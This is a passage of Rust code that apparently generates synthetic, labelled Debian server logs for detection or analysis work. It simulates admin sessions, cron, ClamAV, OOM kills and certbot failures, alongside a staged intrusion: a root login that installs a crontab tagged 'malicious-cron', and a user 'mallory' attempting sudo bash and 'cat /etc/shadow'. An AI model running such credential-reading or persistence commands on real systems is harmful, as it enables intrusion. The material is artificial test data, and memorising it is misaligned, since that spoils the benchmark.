    let root_end = replace_t + r.us(40.0, 200.0);
    g.sess.push(Sess {
        start: p.root_t,
        end: root_end,
        user: "root".into(),
        uid: 0,
        ip: root_ip,
        port: r.port(),
        auth: "password for root from {ip} port {port} ssh2".into(),
        pty: true,
        home: "/root".into(),
        cmds: vec![(replace_t, Act::CrontabPipe(p.mal_reload))],
        label: Some("root-login"),
    });

    let a0 = g.admins[0];
    let a1 = g.admins[1];
    // the day after the brute force an admin installs fail2ban (new package, new service)
    {
        let start = fail2ban_t - r.us(100.0, 200.0);
        let mut s = g.user_sess(&mut r, a1, start, 0, g.users[a1].ip.clone());
        s.cmds.push((
            start + r.us(20.0, 40.0),
            Act::Sudo(
                "/usr/bin/journalctl -u ssh --since yesterday".into(),
                r.us(20.0, 60.0),
            ),
        ));
        s.cmds.push((
            fail2ban_t - 30 * SEC,
            Act::Sudo("/usr/bin/apt update".into(), r.us(4.0, 9.0)),
        ));
        s.cmds.push((
            fail2ban_t,
            Act::Sudo("/usr/bin/apt install fail2ban".into(), 40 * SEC),
        ));
        s.cmds.push((
            fail2ban_t + 2 * MIN,
            Act::Sudo(
                "/usr/bin/vim /etc/fail2ban/jail.local".into(),
                r.us(60.0, 180.0),
            ),
        ));
        s.cmds.push((
            fail2ban_t + 6 * MIN,
            Act::Sudo("/usr/bin/systemctl restart fail2ban".into(), 300_000),
        ));
        s.cmds.push((
            fail2ban_t + 7 * MIN,
            Act::Sudo("/usr/bin/fail2ban-client status sshd".into(), 400_000),
        ));
        s.end = fail2ban_t + 8 * MIN + r.us(10.0, 120.0);
        g.sess.push(s);
        fail2ban_effects(g, &mut r, fail2ban_t);
    }

    // Wednesday: a new admin logs in for the first time, and an admin adds an hourly root cron job
    p.new_admin_first = at(2, 9, 10, 0) + r.below(100 * MIN);
    {
        let na = g.new_admin;
        let start = p.new_admin_first;
        let mut s = g.user_sess(&mut r, na, start, 0, g.users[na].ip.clone());
        s.cmds.push((
            start + r.us(40.0, 90.0),
            Act::Sudo("/usr/bin/systemctl status postfix".into(), 200_000),
        ));
        s.cmds.push((
            start + r.us(120.0, 200.0),
            Act::Sudo("/usr/sbin/postqueue -p".into(), 90_000),
        ));
        s.cmds.push((
            start + r.us(260.0, 400.0),
            Act::Sudo("/usr/bin/smbstatus -b".into(), 150_000),
        ));
        s.end = start + r.us(600.0, 1500.0);
        g.sess.push(s);
    }
    {
        let edit_t = at(2, 13, 30, 0) + r.below(150 * MIN);
        let dur = r.us(40.0, 120.0);
        p.cron_reload = next_minute(edit_t + dur) + r.us(0.4, 1.4);
        p.cron_minute = loop {
            let m = r.range(3, 55);
            if m != 17 && m != p.mal_minute {
                break m;
            }
        };
        let (script, cmd) = *r.pick(&[
            (
                "quota-report",
                "/usr/local/sbin/quota-report --warn 90 >/dev/null 2>&1",
            ),
            (
                "mailq-metrics",
                "/usr/local/sbin/mailq-metrics > /var/lib/prometheus/mailq.prom",
            ),
            (
                "sync-shared-calendars",
                "/usr/local/sbin/sync-shared-calendars --quiet",
            ),
        ]);
        p.cron_cmd = cmd.to_string();
        let start = edit_t - r.us(200.0, 600.0);
        let mut s = g.user_sess(&mut r, a0, start, 0, g.users[a0].ip.clone());
        s.cmds.push((
            start + r.us(20.0, 60.0),
            Act::Sudo(
                format!("/usr/bin/vim /usr/local/sbin/{script}"),
                r.us(60.0, 140.0),
            ),
        ));
        s.cmds.push((
            edit_t - r.us(15.0, 40.0),
            Act::Sudo(
                format!("/usr/bin/chmod 755 /usr/local/sbin/{script}"),
                20_000,
            ),
        ));
        s.cmds.push((edit_t, Act::CrontabEdit(dur, p.cron_reload)));
        s.cmds.push((
            p.cron_reload + r.us(20.0, 60.0),
            Act::Sudo("/usr/bin/crontab -l".into(), 10_000),
        ));
        s.end = p.cron_reload + r.us(90.0, 300.0);
        g.sess.push(s);
    }

    // Monday: config changes that restart smbd and reload postfix (so these are known texts)
    {
        let t = at(0, 10, 0, 0) + r.below(5 * HOUR);
        let mut s = g.user_sess(&mut r, a0, t - 3 * MIN, 0, g.users[a0].ip.clone());
        s.cmds.push((
            t - 2 * MIN,
            Act::Sudo("/usr/bin/vim /etc/samba/smb.conf".into(), r.us(50.0, 100.0)),
        ));
        s.cmds.push((
            t - 10 * SEC,
            Act::Sudo("/usr/bin/testparm -s".into(), 300_000),
        ));
        s.cmds.push((
            t,
            Act::Sudo("/usr/bin/systemctl restart smbd".into(), r.us(1.0, 2.0)),
        ));
        s.cmds.push((
            t + 3 * MIN,
            Act::Sudo("/usr/bin/vim /etc/postfix/main.cf".into(), r.us(40.0, 90.0)),
        ));
        let reload_t = t + 5 * MIN;
        s.cmds.push((
            reload_t,
            Act::Sudo("/usr/sbin/postfix reload".into(), 400_000),
        ));
        s.end = t + 8 * MIN;
        g.sess.push(s);
        smbd_restart(g, &mut r, t + 20_000);
        postfix_reload(g, &mut r, reload_t + 50_000);
    }

    // hardware: a failing disk sector, a soft lockup
    p.disk_t = at(r.range(1, 4), 8, 0, 0) + r.below(9 * HOUR);
    {
        let t = p.disk_t + r.us(25.0 * 60.0, 50.0 * 60.0);
        let mut s = g.user_sess(&mut r, a1, t, 0, g.users[a1].ip.clone());
        s.cmds.push((
            t + r.us(20.0, 40.0),
            Act::Sudo(
                "/usr/bin/journalctl -k --since -2h".into(),
                r.us(30.0, 90.0),
            ),
        ));
        s.cmds.push((
            t + r.us(150.0, 200.0),
            Act::Sudo("/usr/sbin/smartctl -a /dev/sdb".into(), 800_000),
        ));
        s.cmds.push((
            t + r.us(260.0, 320.0),
            Act::Sudo("/usr/sbin/smartctl -t long /dev/sdb".into(), 400_000),
        ));
        s.end = t + r.us(400.0, 900.0);
        g.sess.push(s);
    }
    p.lockup_t = at(r.range(1, 6), 0, 0, 0) + r.below(DAY);
    // a smbd child crashes in working hours
    p.crash_t = at(r.range(1, 4), 9, 30, 0) + r.below(6 * HOUR);
    // /var fills up; an admin frees space ~20 minutes later
    p.full_t = at(r.range(2, 4), 12, 0, 0) + r.below(90 * MIN);
    p.full_end = p.full_t + r.us(6.0 * 60.0, 10.0 * 60.0);
    {
        let t = p.full_end - r.us(200.0, 300.0);
        let mut s = g.user_sess(&mut r, a0, t, 0, g.users[a0].ip.clone());
        s.cmds.push((
            t + r.us(15.0, 30.0),
            Act::Sudo("/usr/bin/df -h".into(), 30_000),
        ));
        s.cmds.push((
            t + r.us(50.0, 80.0),
            Act::Sudo("/usr/bin/du -xh --max-depth=1 /var".into(), r.us(8.0, 30.0)),
        ));
        s.cmds.push((
            p.full_end - 2 * SEC,
            Act::Sudo(
                "/usr/bin/journalctl --vacuum-size=500M".into(),
                r.us(1.0, 3.0),
            ),
        ));
        s.cmds.push((
            p.full_end + r.us(60.0, 90.0),
            Act::Sudo("/usr/sbin/postqueue -f".into(), 80_000),
        ));
        s.cmds.push((
            p.full_end + r.us(120.0, 200.0),
            Act::Sudo("/usr/bin/df -h /var".into(), 20_000),
        ));
        s.end = p.full_end + r.us(300.0, 600.0);
        g.sess.push(s);
        let jid = rs(&mut r, HEXL, 32);
        let freed = format!("{:.1}G", 1.2 + r.f() * 2.5);
        g.push(
            p.full_end + 300_000,
            "systemd-journald",
            Some(g.d.journald),
            format!(
                "Vacuuming done, freed {freed} of archived journals from /var/log/journal/{jid}."
            ),
            None,
        );
    }
    // certbot: twice a day at random times; one run fails
    for d in 0..NDAYS {
        p.certbot.push((at(d, 0, 0, 0) + r.below(12 * HOUR), false));
        p.certbot
            .push((at(d, 12, 0, 0) + r.below(12 * HOUR), false));
    }
    let fi = 2 + r.below(p.certbot.len() as u64 - 4) as usize;
    p.certbot[fi].1 = true;
    // mallory tries to become root
    let pd = r.range(1, 4);
    {
        let m = g.mallory;
        let start = at(pd, 10, 0, 0) + r.below(7 * HOUR);
        let mut s = g.user_sess(&mut r, m, start, 0, g.users[m].ip.clone());
        let t1 = start + r.us(60.0, 400.0);
        s.cmds.push((t1, Act::Denied("/bin/bash".into())));
        let t2 = t1 + r.us(20.0, 90.0);
        s.cmds
            .push((t2, Act::Denied("/usr/bin/cat /etc/shadow".into())));
        s.cmds.push((t2 + r.us(30.0, 120.0), Act::SuFail));
        s.end = t2 + r.us(200.0, 900.0);
        g.sess.push(s);
    }
    // admins restart clamd after each OOM kill
    for &(_, restart) in &restarts {
        let Some(rt) = restart else { continue };
        let a = *r.pick(&g.admins.clone());
        let ip = if working(rt) {
            g.users[a].ip.clone()
        } else {
            g.users[a].vpn.clone()
        };
        let start = rt - r.us(90.0, 240.0);
        let mut s = g.user_sess(&mut r, a, start, 0, ip);
        s.cmds.push((
            start + r.us(10.0, 30.0),
            Act::Sudo("/usr/bin/systemctl status clamav-daemon".into(), 150_000),
        ));
        s.cmds.push((
            start + r.us(40.0, 80.0),
            Act::Sudo(
                "/usr/bin/journalctl -u clamav-daemon -n 50".into(),
                r.us(10.0, 30.0),
            ),
        ));
        s.cmds.push((
            rt - 300_000,
            Act::Sudo("/usr/bin/systemctl restart clamav-daemon".into(), 250_000),
        ));
        s.end = rt + r.us(60.0, 200.0);
        g.sess.push(s);
    }
    g.p = p;
}

fn fail2ban_effects(g: &mut Gen, r: &mut Rng, t: u64) {
    let t1 = t + r.us(22.0, 30.0);
    g.sys(t1, "Reloading.");
    let t2 = t1 + r.us(1.5, 3.0);
    g.sys(t2, "Reloading.");
    let t3 = t2 + r.us(0.3, 0.8);
    g.sys(t3, "Started fail2ban.service - Fail2Ban Service.");
    let fp = g.pid_at(r, t3);
    let ms = r.below(1000);
    g.push(t3 + 600_000, "fail2ban-server", Some(fp), format!("{},{:03} fail2ban.configreader   [{fp}]: WARNING 'allowipv6' not defined in 'Definition'. default to auto", iso(t3 + 600_000).replace('T', " "), ms), None);
    g.push(
        t3 + 900_000,
        "fail2ban-server",
        Some(fp),
        "Server ready",
        None,
    );
    // the restart after editing jail.local
    let t4 = t + 6 * MIN + 80_000;
    g.sys(t4, "Stopping fail2ban.service - Fail2Ban Service...");
    g.sys(t4 + 180_000, "fail2ban.service: Deactivated successfully.");
    g.sys(t4 + 181_000, "Stopped fail2ban.service - Fail2Ban Service.");
    g.sys(
        t4 + 182_000,
        format!(
            "fail2ban.service: Consumed {} CPU time.",
            span(r.us(1.0, 3.0))
        ),
    );
    g.sys(t4 + 190_000, "Started fail2ban.service - Fail2Ban Service.");
    let fp2 = g.pid_at(r, t4 + 190_000);
    let t5 = t4 + 800_000;
    g.push(t5, "fail2ban-server", Some(fp2), format!("{},{:03} fail2ban.configreader   [{fp2}]: WARNING 'allowipv6' not defined in 'Definition'. default to auto", iso(t5).replace('T', " "), r.below(1000)), None);
    g.push(
        t5 + 300_000,
        "fail2ban-server",
        Some(fp2),
        "Server ready",
        None,
    );
}

fn smbd_restart(g: &mut Gen, r: &mut Rng, t: u64) {
    g.sys(t, "Stopping smbd.service - Samba SMB Daemon...");
    g.sys(t + 90_000, "smbd.service: Deactivated successfully.");
    g.sys(t + 91_000, "Stopped smbd.service - Samba SMB Daemon.");
    g.sys(
        t + 92_000,
        format!(
            "smbd.service: Consumed {} CPU time.",
            span(r.us(150.0, 900.0))
        ),
    );
    g.sys(t + 120_000, "Starting smbd.service - Samba SMB Daemon...");
    let pid = g.pid_at(r, t + 130_000);
    g.d.smbd = pid;
    let t2 = t + 300_000;
    g.push(
        t2,
        "smbd",
        Some(pid),
        format!(
            "[{},  0] ../../source3/smbd/server.c:1741(main)",
            samba_ts(t2)
        ),
        None,
    );
    g.push(
        t2 + 30,
        "smbd",
        Some(pid),
        "  smbd version 4.17.12-Debian started.",
        None,
    );
    g.push(
        t2 + 60,
        "smbd",
        Some(pid),
        "  Copyright Andrew Tridgell and the Samba Team 1992-2022",
        None,
    );
    g.sys(t2 + 400_000, "Started smbd.service - Samba SMB Daemon.");
}

fn postfix_reload(g: &mut Gen, r: &mut Rng, t: u64) {
    let p = g.pid_at(r, t);
    g.push(
        t,
        "postfix/postfix-script",
        Some(p),
        "refreshing the Postfix mail system",
        None,
    );
    g.push(
        t + 20_000,
        "postfix/master",
        Some(g.d.master),
        "reload -- version 3.7.11, configuration /etc/postfix",
        None,
    );
}

// ---------------------------------------------------------------------------------------------
// systemd timers

fn timers(g: &mut Gen) {
    let mut r = g.rng(0x21);
    let tmp_h = r.range(9, 20);
    let tmp_m = r.below(60);
    for d in 0..NDAYS {
        let mid = at(d, 0, 0, 0);
        g.oneshot(
            mid + r.below(2 * SEC),
            "logrotate.service",
            "Rotate log files",
            r.us(0.3, 2.5),
            r.us(0.08, 0.6),
        );
        g.oneshot(
            mid + r.below(2 * SEC),
            "dpkg-db-backup.service",
            "Daily dpkg database backup service",
            r.us(0.1, 0.5),
            r.us(0.02, 0.12),
        );
        g.oneshot(
            mid + r.below(12 * HOUR),
            "man-db.service",
            "Daily man-db regeneration",
            r.us(0.2, 4.0),
            r.us(0.1, 2.5),
        );
        for base in [6, 18] {
            g.oneshot(
                at(d, base, 0, 0) + r.below(12 * HOUR),
                "apt-daily.service",
                "Daily apt download activities",
                r.us(2.0, 15.0),
                r.us(0.8, 4.0),
            );
        }
        let tt = at(d, tmp_h, tmp_m, 0) + r.us(0.0, 2.0) + d * r.below(300_000);
        g.oneshot(
            tt,
            "systemd-tmpfiles-clean.service",
            "Cleanup of Temporary Directories",
            r.us(0.05, 0.3),
            r.us(0.015, 0.09),
        );
        apt_daily_upgrade(g, &mut r, d);
    }
    // weekly
    let t = at(0, 0, 0, 0) + r.below(100 * MIN);
    g.sys(
        t,
        "Starting fstrim.service - Discard unused blocks on filesystems from /etc/fstab...",
    );
    let fp = g.pid_at(&mut r, t);
    let boot = 400_000_000 + r.below(150_000_000);
    let root = 30_000_000_000 + r.below(20_000_000_000);
    let dt = r.us(3.0, 12.0);
    g.push(
        t + dt - 20_000,
        "fstrim",
        Some(fp),
        format!(
            "/boot/efi: {:.1} MiB ({boot} bytes) trimmed on /dev/sda1",
            boot as f64 / 1048576.0
        ),
        None,
    );
    g.push(
        t + dt - 10_000,
        "fstrim",
        Some(fp),
        format!(
            "/: {:.1} GiB ({root} bytes) trimmed on /dev/sda2",
            root as f64 / 1073741824.0
        ),
        None,
    );
    g.sys(t + dt, "fstrim.service: Deactivated successfully.");
    g.sys(
        t + dt + 60,
        "Finished fstrim.service - Discard unused blocks on filesystems from /etc/fstab.",
    );
    g.sys(
        t + dt + 120,
        format!(
            "fstrim.service: Consumed {} CPU time.",
            span(r.us(0.01, 0.2))
        ),
    );
    g.oneshot(
        at(6, 3, 10, 0) + r.below(30 * SEC),
        "e2scrub_all.service",
        "Online ext4 Metadata Check for All Filesystems",
        r.us(0.2, 1.0),
        r.us(0.05, 0.3),
    );

    // certbot
    let runs = g.p.certbot.clone();
    let mut renew_after_fail = false;
    for (t, fail) in runs {
        g.sys(t, "Starting certbot.service - Certbot...");
        let dur = r.us(1.0, 4.0);
        let e = t + dur;
        if fail {
            let cp = g.pid_at(&mut r, t);
            let obj = rs(&mut r, HEXL, 12);
            let l = Some("unit-failed");
            g.push(e - 40_000, "certbot", Some(cp), format!("Failed to renew certificate {} with error: HTTPSConnectionPool(host='acme-v02.api.letsencrypt.org', port=443): Max retries exceeded with url: /directory (Caused by NewConnectionError('<urllib3.connection.HTTPSConnection object at 0x7f{obj}>: Failed to establish a new connection: [Errno -3] Temporary failure in name resolution'))", g.fqdn), l);
            g.push(
                e - 30_000,
                "certbot",
                Some(cp),
                "All renewals failed. The following certificates could not be renewed:",
                l,
            );
            g.push(
                e - 29_000,
                "certbot",
                Some(cp),
                format!("  /etc/letsencrypt/live/{}/fullchain.pem (failure)", g.fqdn),
                l,
            );
            g.push(
                e - 28_000,
                "certbot",
                Some(cp),
                "1 renew failure(s), 0 parse failure(s)",
                l,
            );
            g.sysl(
                e,
                "certbot.service: Main process exited, code=exited, status=1/FAILURE",
                l,
            );
            g.sysl(
                e + 50,
                "certbot.service: Failed with result 'exit-code'.",
                l,
            );
            g.sysl(e + 80, "Failed to start certbot.service - Certbot.", l);
            g.sys(
                e + 120,
                format!(
                    "certbot.service: Consumed {} CPU time.",
                    span(r.us(0.9, 2.2))
                ),
            );
            renew_after_fail = true;
        } else {
            let e = if renew_after_fail {
                t + r.us(8.0, 20.0)
            } else {
                e
            };
            g.sys(e, "certbot.service: Deactivated successfully.");
            g.sys(e + 60, "Finished certbot.service - Certbot.");
            g.sys(
                e + 120,
                format!(
                    "certbot.service: Consumed {} CPU time.",
                    span(r.us(0.8, 2.4))
                ),
            );
            if renew_after_fail {
                // the renewal went through this time: the deploy hook reloads postfix and dovecot
                renew_after_fail = false;
                postfix_reload(g, &mut r, e - 2 * SEC);
                g.push(
                    e - SEC,
                    "dovecot",
                    Some(g.d.dovecot),
                    "master: Warning: SIGHUP received - reloading configuration",
                    None,
                );
            }
        }
    }
}

fn apt_daily_upgrade(g: &mut Gen, r: &mut Rng, d: u64) {
    let t = g.p.adu[d as usize];
    let upgrade: Option<&str> = if d == 0 {
        Some("clamav clamav-base clamav-daemon clamav-freshclam libclamav11")
    } else if d == g.p.ssl_day {
        Some("libssl3 openssl")
    } else {
        None
    };
    g.sys(
        t,
        "Starting apt-daily-upgrade.service - Daily apt upgrade and clean activities...",
    );
    let up = g.pid_at(r, t + 1_500_000);
    let mut u = t + r.us(1.5, 3.0);
    let say = |g: &mut Gen, u: &mut u64, msg: &str, gap: u64| {
        g.push(*u, "unattended-upgrade", Some(up), msg.to_string(), None);
        *u += gap;
    };
    say(g, &mut u, "Starting unattended upgrades script", 400_000);
    say(g, &mut u, "Allowed origins are: origin=Debian,codename=bookworm,label=Debian, origin=Debian,codename=bookworm,label=Debian-Security, origin=Debian,codename=bookworm-security,label=Debian-Security", 20_000);
    say(g, &mut u, "Initial blacklist: ", 10_000);
    say(g, &mut u, "Initial whitelist (not strict): ", 1_200_000);
    let end = match upgrade {
        None => {
            say(
                g,
                &mut u,
                "No packages found that can be upgraded unattended and no pending auto-removals",
                0,
            );
            u + r.us(0.5, 3.0)
        }
        Some(pkgs) => {
            say(
                g,
                &mut u,
                &format!("Packages that will be upgraded: {pkgs}"),
                50_000,
            );
            say(
                g,
                &mut u,
                "Writing dpkg log to /var/log/unattended-upgrades/unattended-upgrades-dpkg.log",
                0,
            );
            let mut e = u + r.us(20.0, 35.0);
            if d == 0 {
                e = e.max(g.p.fresh_restart + 5 * SEC);
            }
            if d == 0 {
                // dpkg's maintainer scripts reload systemd before restarting the clamav units
                g.sys(g.p.upgrade_t - r.us(0.8, 1.6), "Reloading.");
            }
            g.push(
                e,
                "unattended-upgrade",
                Some(up),
                "All upgrades installed",
                None,
            );
            g.local_mail.push(e + r.us(1.0, 2.0));
            e + r.us(2.0, 5.0)
        }
    };
    g.sys(end, "apt-daily-upgrade.service: Deactivated successfully.");
    g.sys(
        end + 60,
        "Finished apt-daily-upgrade.service - Daily apt upgrade and clean activities.",
    );
    let cpu = if upgrade.is_some() {
        r.us(25.0, 50.0)
    } else {
        r.us(1.5, 7.0)
    };
    g.sys(
        end + 120,
        format!(
            "apt-daily-upgrade.service: Consumed {} CPU time.",
            span(cpu)
        ),
    );
}

// ---------------------------------------------------------------------------------------------
// cron

fn cron_job(g: &mut Gen, r: &mut Rng, t: u64, cmd: &str, dur: u64, label: Option<&'static str>) {
    let pid = g.pid_at(r, t);
    g.push(
        t,
        "CRON",
        Some(pid),
        "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
        None,
    );
    g.push(
        t + 900,
        "CRON",
        Some(pid + 1),
        format!("(root) CMD ({cmd})"),
        label,
    );
    g.push(
        t + dur,
        "CRON",
        Some(pid),
        "pam_unix(cron:session): session closed for user root",
        None,
    );
}

fn cron(g: &mut Gen) {
    let mut r = g.rng(0x31);
    for hour in 0..NDAYS * 24 {
        let base = T0 + hour * HOUR;
        let d = hour / 24;
        let h = hour % 24;
        // entries fire at second 0 of the minute, logged a few ms later
        let jit = |r: &mut Rng| r.us(0.002, 0.06);
        let t = base + 17 * MIN + jit(&mut r);
        let dur = r.us(0.004, 0.04);
        cron_job(
            g,
            &mut r,
            t,
            "cd / && run-parts --report /etc/cron.hourly",
            dur,
            None,
        );
        if h == 6 {
            let t = base + 25 * MIN + jit(&mut r);
            let dur = r.us(0.5, 4.0);
            cron_job(
                g,
                &mut r,
                t,
                "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
                dur,
                None,
            );
            if d == 6 {
                let t = base + 47 * MIN + jit(&mut r);
                let dur = r.us(0.8, 6.0);
                cron_job(
                    g,
                    &mut r,
                    t,
                    "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }",
                    dur,
                    None,
                );
            }
        }
        let t = base + g.p.cron_minute * MIN + jit(&mut r);
        if t > g.p.cron_reload {
            let cmd = g.p.cron_cmd.clone();
            let dur = r.us(0.2, 2.5);
            cron_job(g, &mut r, t, &cmd, dur, None);
        }
        let t = base + g.p.mal_minute * MIN + jit(&mut r);
        if t > g.p.mal_reload && g.p.mal_hours.contains(&h) {
            let cmd = g.p.mal_cmd.clone();
            let dur = r.us(0.3, 1.5);
            cron_job(g, &mut r, t, &cmd, dur, Some("malicious-cron"));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// ClamAV: freshclam checks, clamd reloads and self-checks, the upgrade, the OOM kills

fn clam(g: &mut Gen) {
    let mut r = g.rng(0x41);
    let mut ver = r.range(27440, 27470) as u32;
    let mut sigs = 2_060_000 + r.below(20_000) as u32;
    let main_sigs = 6_647_427u32;
    let total = |s: u32| s + main_sigs + 86;

    // the upgrade restarts both services
    let ut = g.p.upgrade_t;
    let c0 = g.p.clamd[0].pid;
    g.sys(
        ut,
        "Stopping clamav-daemon.service - Clam AntiVirus userspace daemon...",
    );
    g.push(
        ut + 30_000,
        "clamd",
        Some(c0),
        format!("{} -> --- Stopped at {}", ctime(ut), ctime(ut)),
        None,
    );
    g.push(
        ut + 31_000,
        "clamd",
        Some(c0),
        format!("{} -> Socket file removed.", ctime(ut)),
        None,
    );
    g.push(
        ut + 32_000,
        "clamd",
        Some(c0),
        format!("{} -> Pid file removed.", ctime(ut)),
        None,
    );
    g.sys(
        ut + 200_000,
        "clamav-daemon.service: Deactivated successfully.",
    );
    g.sys(
        ut + 201_000,
        "Stopped clamav-daemon.service - Clam AntiVirus userspace daemon.",
    );
    g.sys(
        ut + 202_000,
        format!(
            "clamav-daemon.service: Consumed {} CPU time.",
            span(r.us(1800.0, 9000.0))
        ),
    );
    let fr = g.p.fresh_restart;
    let f0 = g.d.freshclam0;
    g.sys(
        fr - 3 * SEC,
        "Stopping clamav-freshclam.service - ClamAV virus database updater...",
    );
    g.push(
        fr - 2 * SEC,
        "freshclam",
        Some(f0),
        format!("{} -> Update process terminated", ctime(fr - 2 * SEC)),
        None,
    );
    g.sys(
        fr - 1_900_000,
        "clamav-freshclam.service: Deactivated successfully.",
    );
    g.sys(
        fr - 1_899_000,
        "Stopped clamav-freshclam.service - ClamAV virus database updater.",
    );
    g.sys(
        fr - 1_898_000,
        format!(
            "clamav-freshclam.service: Consumed {} CPU time.",
            span(r.us(40.0, 200.0))
        ),
    );
    g.sys(
        fr,
        "Started clamav-freshclam.service - ClamAV virus database updater.",
    );

    let oom_checks: Vec<(usize, u64)> = g.p.ooms.clone();
    let checks = g.p.checks.clone();
    for (i, c) in checks.iter().enumerate() {
        let fpid = if c.t < fr { f0 } else { g.p.fresh_pid1 };
        let ts = ctime(c.t);
        let mut t = c.t;
        let fl = |g: &mut Gen, t: &mut u64, msg: String, label: Option<&'static str>| {
            g.push(
                *t,
                "freshclam",
                Some(fpid),
                format!("{} -> {}", ctime(*t), msg),
                label,
            );
            *t += 900;
        };
        fl(
            g,
            &mut t,
            "--------------------------------------".into(),
            None,
        );
        if !c.startup {
            fl(g, &mut t, "Received signal: wake up".into(), None);
        }
        fl(
            g,
            &mut t,
            format!("ClamAV update process started at {ts}"),
            None,
        );
        if c.update {
            t += r.us(0.3, 1.2);
            fl(g, &mut t, format!("daily database available for update (local version: {ver}, remote version: {})", ver + 1), None);
            t += r.us(0.5, 2.0);
            fl(
                g,
                &mut t,
                format!(
                    "Testing database: '/var/lib/clamav/tmp.{}/clamav-{}.tmp-daily.cld' ...",
                    rs(&mut r, HEXL, 10),
                    rs(&mut r, HEXL, 32)
                ),
                None,
            );
            t += r.us(6.0, 14.0);
            fl(g, &mut t, "Database test passed.".into(), None);
            ver += 1;
            sigs += r.range(20, 260) as u32;
            fl(g, &mut t, format!("daily.cld updated (version: {ver}, sigs: {sigs}, f-level: 90, builder: raynman)"), None);
        } else {
            t += r.us(0.1, 0.6);
            fl(g, &mut t, format!("daily.cld database is up-to-date (version: {ver}, sigs: {sigs}, f-level: 90, builder: raynman)"), None);
        }
        fl(g, &mut t, format!("main.cvd database is up-to-date (version: 62, sigs: {main_sigs}, f-level: 90, builder: sigmgr)"), None);
        fl(g, &mut t, "bytecode.cvd database is up-to-date (version: 335, sigs: 86, f-level: 90, builder: raynman)".into(), None);
        if c.update {
            match g.clamd_pid(t) {
                Some(cpid) => {
                    fl(g, &mut t, "Clamd successfully notified about the update.".into(), None);
                    let rt = t + r.us(0.01, 0.05);
                    g.push(rt, "clamd", Some(cpid), format!("{} -> Reading databases from /var/lib/clamav", ctime(rt)), None);
                    if let Some(&(_, oom_t)) = oom_checks.iter().find(|(ci, _)| *ci == i) {
                        oom(g, &mut r, oom_t, cpid);
                    } else {
                        let dt = rt + r.us(18.0, 35.0);
                        g.push(dt, "clamd", Some(cpid), format!("{} -> Database correctly reloaded ({} signatures)", ctime(dt), total(sigs)), None);
                        g.push(dt + 200, "clamd", Some(cpid), format!("{} -> Activating the newly loaded database...", ctime(dt)), None);
                    }
                }
                None => fl(g, &mut t, "WARNING: Clamd was NOT notified: Can't connect to clamd through /var/run/clamav/clamd.ctl: No such file or directory".into(), Some("oom")),
            }
        }
    }

    // clamd lifetimes: start-up banner and hourly self-checks
    let periods = g.p.clamd.clone();
    for p in &periods {
        let pid = p.pid;
        if p.startup {
            g.sys(
                p.start,
                "Started clamav-daemon.service - Clam AntiVirus userspace daemon.",
            );
            let mut t = p.start + r.us(0.1, 0.3);
            let cl = |g: &mut Gen, t: &mut u64, msg: String, gap: u64| {
                g.push(
                    *t,
                    "clamd",
                    Some(pid),
                    format!("{} -> {}", ctime(*t), msg),
                    None,
                );
                *t += gap;
            };
            cl(
                g,
                &mut t,
                "Received 0 file descriptor(s) from systemd.".into(),
                1000,
            );
            cl(
                g,
                &mut t,
                "clamd daemon 1.0.7 (OS: Linux, ARCH: x86_64, CPU: x86_64)".into(),
                500,
            );
            cl(
                g,
                &mut t,
                "Log file size limited to 4294967295 bytes.".into(),
                300,
            );
            cl(
                g,
                &mut t,
                "Reading databases from /var/lib/clamav".into(),
                2000,
            );
            cl(g, &mut t, "Not loading PUA signatures.".into(), 300);
            let load = r.us(18.0, 32.0);
            cl(
                g,
                &mut t,
                "Bytecode: Security mode set to \"TrustSigned\".".into(),
                load,
            );
            let s_now = sigs; // close enough: the count at the last update before
            cl(
                g,
                &mut t,
                format!("Loaded {} signatures.", total(s_now) - r.below(400) as u32),
                2000,
            );
            cl(
                g,
                &mut t,
                "LOCAL: Unix socket file /var/run/clamav/clamd.ctl".into(),
                200,
            );
            cl(
                g,
                &mut t,
                "LOCAL: Setting connection queue length to 15".into(),
                200,
            );
            cl(
                g,
                &mut t,
                "Limits: Global time limit set to 120000 milliseconds.".into(),
                100,
            );
            cl(
                g,
                &mut t,
                "Limits: Global size limit set to 104857600 bytes.".into(),
                100,
            );
            cl(
                g,
                &mut t,
                "Limits: File size limit set to 26214400 bytes.".into(),
                100,
            );
            cl(g, &mut t, "Self checking every 3600 seconds.".into(), 0);
        }
        let mut t = p.start + HOUR + r.us(30.0, 40.0);
        while t < p.end {
            g.push(
                t,
                "clamd",
                Some(pid),
                format!("{} -> SelfCheck: Database status OK.", ctime(t)),
                None,
            );
            t += HOUR + r.us(0.0, 0.05);
        }
    }

    // an imap process picked by the OOM killer instead
    if let Some((t, u)) = g.p.imap_oom {
        let l = Some("oom");
        let back = r.us(600.0, 3600.0);
        let pid = g.pid_at(&mut r, t - back);
        g.kern(t, "imap invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0", l);
        let vm = 900_000 + r.below(600_000);
        g.kern(t + 2_300, format!("Out of memory: Killed process {pid} (imap) total-vm:{vm}kB, anon-rss:{}kB, file-rss:{}kB, shmem-rss:0kB, UID:{} pgtables:{}kB oom_score_adj:0", vm * 8 / 10, r.range(2000, 9000), g.users[u].uid, r.range(1200, 2400)), l);
        let sess = rs(&mut r, B64, 16);
        g.push(t + 40_000, "dovecot", Some(g.d.dovecot), format!("imap({})<{pid}><{sess}>: Fatal: master: service(imap): child {pid} killed with signal 9", g.users[u].name), l);
    }
}

fn oom(g: &mut Gen, r: &mut Rng, t: u64, cpid: u32) {
    let l = Some("oom");
    let inv = *r.pick(&["clamd", "clamd", "clamd", "smbd", "cleanup", "imap"]);
    g.kern(t, format!("{inv} invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0"), l);
    let vm = 2_150_000 + r.below(500_000);
    let rss = vm * 7 / 10 + r.below(100_000);
    g.kern(t + r.us(0.002, 0.004), format!("Out of memory: Killed process {cpid} (clamd) total-vm:{vm}kB, anon-rss:{rss}kB, file-rss:{}kB, shmem-rss:0kB, UID:{} pgtables:{}kB oom_score_adj:0", r.range(0, 4000), 112, r.range(3000, 4600)), l);
    let s = t + r.us(0.15, 0.4);
    g.sysl(
        s,
        "clamav-daemon.service: A process of this unit has been killed by the OOM killer.",
        l,
    );
    g.sysl(
        s + 2_000,
